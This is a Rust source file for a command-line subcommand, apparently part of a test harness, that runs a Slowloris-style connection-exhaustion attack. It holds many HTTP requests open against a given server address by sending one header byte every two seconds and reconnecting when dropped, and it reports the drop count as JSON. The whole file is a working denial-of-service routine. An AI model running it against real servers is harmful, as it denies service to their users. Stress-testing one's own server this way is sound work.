//! Requests that never end: each holds a connection for as long as the server lets it.

use std::{cell::Cell, rc::Rc, time::Duration};

use serde_json::json;
use tokio::{io::AsyncWriteExt, net::TcpStream, task::spawn_local, time::sleep};

use crate::until_input_ends;

/// Between two bytes of one request.
const PAUSE: Duration = Duration::from_secs(2);

#[derive(clap::Args)]
pub(crate) struct Loris {
    /// ADDRESS:PORT of the server.
    #[arg(long)]
    server: String,
    /// Connections at once.
    #[arg(long)]
    count: usize,
}

impl Loris {
    pub(crate) async fn run(self) -> anyhow::Result<()> {
        let dropped = Rc::new(Cell::new(0_u64));
        for _ in 0..self.count {
            let server = self.server.clone();
            let dropped = Rc::clone(&dropped);
            spawn_local(async move {
                loop {
                    // Whoever is turned away tries again: that is the attack.
                    drop(one(&server).await);
                    dropped.set(dropped.get() + 1);
                    sleep(PAUSE).await;
                }
            });
        }
        println!("holding");
        until_input_ends().await?;
        println!("{}", json!({ "dropped": dropped.get() }));
        Ok(())
    }
}

async fn one(server: &str) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(server).await?;
    stream
        .write_all(b"GET /sync HTTP/1.1\r\nHost: trama\r\nX-Slow: ")
        .await?;
    loop {
        sleep(PAUSE).await;
        stream.write_all(b"a").await?;
    }
}
